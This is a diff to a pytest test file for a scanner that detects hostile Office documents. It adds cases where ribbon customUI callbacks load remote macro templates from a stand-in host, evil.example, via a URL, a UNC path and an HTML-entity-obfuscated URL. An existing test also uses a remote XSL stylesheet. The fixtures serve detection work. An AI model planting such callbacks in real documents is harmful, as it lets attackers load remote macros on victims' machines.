@@ -101,6 +101,23 @@ def test_macro_sheets_by_a_type_that_is_spelt_otherwise(kind: str):
     assert found(plain_zip({"[Content_Types].xml": types})) == {"office-xlm-macro"}
 
 
+@pytest.mark.parametrize(
+    ("callback", "names"),
+    [
+        ("onLoad='https://evil.example/t.dotm!x'", REMOTE),
+        ('onLoad = "\\\\evil.example\\t\\t.dotm!x"', REMOTE),
+        ('onAction="&#104;ttps://evil.example/t.dotm!x"', REMOTE),
+        ('onLoad="Ribbon_Load"', set()),
+        ('onLoad="other.xlam!Ribbon_Load"', set()),
+        ('tag="https://fine.example/!"', set()),
+    ],
+)
+def test_ribbon_that_calls_elsewhere(callback: str, names: set[str]):
+    xml = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" {callback}/>'
+    assert found(docx(extra={"customUI/customUI.xml": xml.encode()})) == names
+    assert found(docx(extra={"word/x.xml": f"<x {callback}/>".encode()})) == set()
+
+
 def test_stylesheet_from_elsewhere():
     xml = b'<?xml version="1.0"?><?mso-application progid="x"?><?xml-stylesheet type="y" href="%s"?><x/>'
     assert found(xml % b"http://evil.example/x.xsl") == {"office-remote-template"}
